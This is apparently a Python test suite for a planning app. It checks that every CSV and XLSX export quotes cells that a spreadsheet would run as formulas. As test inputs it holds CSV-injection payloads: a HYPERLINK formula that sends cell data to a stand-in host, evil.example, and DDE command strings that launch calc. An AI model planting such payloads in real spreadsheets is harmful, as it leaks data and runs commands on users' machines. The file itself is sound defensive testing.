"""Exports never carry a live formula (issue 8): text starting = + - @ tab or CR comes back quoted.

Every spreadsheet the app writes goes through `exporter.encode` or `exporter.workbook_bytes`
(data exports, templates, plan exports, the inventory policy and the meeting pack), so the
property is checked there, then end to end from an imported SKU named `=HYPERLINK(...)`.
"""
from __future__ import annotations

import csv
import io
import os

import openpyxl
import pandas as pd
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from genxsop_core.cycle import meeting_pack
from genxsop_core.io import exporter, importer
from genxsop_core.io.formats import FORMATS
from genxsop_core.persistence.db import get_engine
from genxsop_core.plans import versions as plan_versions

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EXAMPLES = int(os.environ.get("HYPOTHESIS_MAX_EXAMPLES", "40"))

texts = st.one_of(
    st.tuples(st.sampled_from(FORMULA_STARTS), st.text(max_size=12)).map("".join),
    st.sampled_from([HYPERLINK, "=cmd|' /C calc'!A0", "@SUM(A1)", "+1+1", "-2", "\t=1", "\r=1", "'=1", " =1",
                     "plain", "", "a=b", "\x07bell", "\x00=1",
                     "ok\r=cmd|' /C calc'!A0", "ok\n@SUM(A1)"]),
    st.text(max_size=12),
)


@st.composite
def frames(draw: st.DrawFn) -> pd.DataFrame:
    rows = draw(st.integers(1, 5))
    text = draw(st.lists(texts | st.none(), min_size=rows, max_size=rows))
    numbers = draw(st.lists(st.floats(-1e300, 1e300) | st.integers(-10, 10), min_size=rows, max_size=rows))
    frame = pd.DataFrame({"name": text, "qty": pd.Series(numbers, dtype=float)})
    dtype = draw(st.sampled_from(["object", "string", "category"]))  # pandas 3 makes text "string"
    frame["name"] = frame["name"].astype(dtype) if dtype != "object" else frame["name"]
    return frame


def quoted(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def xlsx_cells(content: bytes, sheet: int = 0) -> list[list[openpyxl.cell.Cell]]:
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(content)).worksheets[sheet].iter_rows()]


def assert_no_formula(content: bytes) -> None:
    for ws in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)), cell.value


@settings(max_examples=EXAMPLES, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(frame=frames())
def test_text_that_a_spreadsheet_would_run_comes_back_quoted_in_csv_and_xlsx(frame):
    names = [None if pd.isna(v) else v for v in frame["name"].astype(object)]

    rows = csv_cells(exporter.encode(frame, "csv", "Sheet"))
    assert rows[0] == ["name", "qty"]
    assert [r[0] for r in rows[1:]] == ["" if v is None else quoted(v) for v in names]

    workbook = exporter.encode(frame, "xlsx", "Sheet")
    assert_no_formula(workbook)
    cells = [row[0] for row in xlsx_cells(workbook)[1:]]
    for cell, name in zip(cells, names):
        # Excel cannot hold control characters (they become U+FFFD); XML reads a lone CR as a line feed
        expected = None if not name else ILLEGAL_CHARACTERS_RE.sub("\ufffd", quoted(name))
        assert cell.value == (expected.replace("\r\n", "\n").replace("\r", "\n") if expected else None)
        assert cell.value is None or cell.data_type == "s"
    assert all(row[1].data_type == "n" for row in xlsx_cells(workbook)[1:])  # negative numbers stay numbers


def test_every_sheet_of_a_workbook_is_neutralised():
    sheets = {"one": pd.DataFrame({"a": [HYPERLINK]}), "a very long sheet name beyond 31 chars": pd.DataFrame(
        {"b": ["@SUM(A1)"], "c": pd.Categorical(["-1+1"])})}
    content = exporter.workbook_bytes(sheets)
    assert_no_formula(content)
    assert [[c.value for c in r] for r in xlsx_cells(content, 1)] == [["b", "c"], ["'@SUM(A1)", "'-1+1"]]


def test_meeting_pack_workbooks_are_neutralised():
    tables = {"Decisions": pd.DataFrame({"text": [HYPERLINK, "\t=1", "ok\x1b"], "decided_by": ["=x", "+y", "@z"]})}
    content = meeting_pack.build_xlsx(tables)
    assert_no_formula(content)
    assert [c.value for c in xlsx_cells(content)[1]] == ["'" + HYPERLINK, "'=x"]


def hostile_products() -> bytes:
    return ("sku,name,category,family,unit_cost,unit_price\n"
            f'-A1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",@SUM(A1),+1+1,1,2\n'
            "B-2,=cmd|' /C calc'!A0,Safe,Fine,1,2\n").encode()


def test_an_imported_formula_name_is_exported_quoted_everywhere(uow_factory, admin, database_url):
    importer.import_file(uow_factory(), admin, "products", "evil.csv", hostile_products())
    importer.import_file(uow_factory(), admin, "supply", "supply.csv",
                         b"sku,period,planned_receipts\n-A1,2025-02-03,5\nB-2,2025-02-03,7\n")
    with get_engine(database_url).begin() as connection:  # comments arrive through the plan grid, not imports
        connection.execute(sa.text("update supply_plan set comment = :c"), {"c": "\t=1+1\x07"})

    products = exporter.export_frame(uow_factory(), "products")
    assert list(products.name) == [HYPERLINK, "=cmd|' /C calc'!A0"]  # stored as typed, quoted only on the way out
    rows = csv_cells(exporter.encode(products, "csv", "Products"))
    assert rows[1][:4] == ["'-A1", "'" + HYPERLINK, "'@SUM(A1)", "'+1+1"]
    workbook = exporter.encode(products, "xlsx", "Products")
    assert_no_formula(workbook)
    assert [c.value for c in xlsx_cells(workbook)[1][:4]] == ["'-A1", "'" + HYPERLINK, "'@SUM(A1)", "'+1+1"]

    with uow_factory() as uow:
        version_id = uow.plans.latest_working("supply").id
    for file_type in ("csv", "xlsx"):
        content, _ = plan_versions.export_plan(uow_factory(), "supply", version_id, file_type)
        if file_type == "csv":
            plan = csv_cells(content)
            names, comments = [r[plan[0].index("name")] for r in plan[1:]], [r[-3] for r in plan[1:]]
        else:
            assert_no_formula(content)
            plan = [[c.value for c in r] for r in xlsx_cells(content)]
            names, comments = [r[plan[0].index("name")] for r in plan[1:]], [r[-3] for r in plan[1:]]
        assert sorted(names) == sorted(["'" + HYPERLINK, "'=cmd|' /C calc'!A0"])
        assert plan[0][-3] == "comment"
        assert comments == ["'\t=1+1" + ("\x07" if file_type == "csv" else "\ufffd")] * 2


def test_an_export_imports_back_unchanged(uow_factory, admin):
    """The quote an export adds is dropped on import (as Excel drops it), so exports round-trip."""
    importer.import_file(uow_factory(), admin, "products", "evil.csv", hostile_products())
    before = exporter.export_frame(uow_factory(), "products")
    for file_type in ("csv", "xlsx"):
        content = exporter.encode(before, file_type, "Products")
        result = importer.import_file(uow_factory(), admin, "products", f"export.{file_type}", content)
        assert (result.inserted, result.updated, result.unchanged) == (0, 0, 2), file_type
    assert exporter.export_frame(uow_factory(), "products").equals(before)


def test_templates_carry_no_formula():
    for kind in FORMATS:
        assert_no_formula(exporter.template(kind, "xlsx"))
        assert not any(cell.startswith(FORMULA_STARTS) for row in csv_cells(exporter.template(kind, "csv"))
                       for cell in row)
